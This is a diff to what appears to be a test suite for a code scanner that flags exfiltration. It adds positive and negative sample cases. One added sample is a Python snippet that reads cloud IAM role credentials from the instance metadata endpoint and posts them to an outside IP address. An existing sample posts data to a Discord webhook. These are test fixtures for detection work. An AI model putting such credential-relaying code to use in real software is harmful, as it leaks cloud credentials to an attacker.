@@ -137,6 +137,15 @@ POSITIVES = [
         {("WC-CODE-EXFILTRATION", H)},
     ),
     Case(
+        "instance credentials relayed",
+        "import requests\n"
+        "META = 'http://169.254.169.254/latest/meta-data/iam/security-credentials/role'\n"
+        "def relay():\n"
+        "    creds = requests.get(META).text\n"
+        "    requests.post('https://203.0.113.8/c', data=creds)\n",
+        {("WC-CODE-EXFILTRATION", H)},
+    ),
+    Case(
         "discord webhook at import",
         "import requests\nrequests.post('https://discord.com/api/webhooks/1/x', json={'a': 1})\n",
         {("WC-CODE-SINK", H)},
@@ -324,6 +333,14 @@ NEGATIVES = [
         quiet=L,
     ),
     Case("client built at import", "import requests\nSESSION = requests.Session()\n", quiet=L),
+    Case(
+        "cloud sdk reading instance metadata",
+        "import requests\n"
+        "def instance():\n"
+        "    url = 'http://169.254.169.254/metadata/instance'\n"
+        "    return requests.get(url, headers={'Metadata': 'true'}, timeout=2).json()\n",
+        quiet=M,
+    ),
     Case(
         "registry read in a function",
         "import winreg\ndef zone():\n"
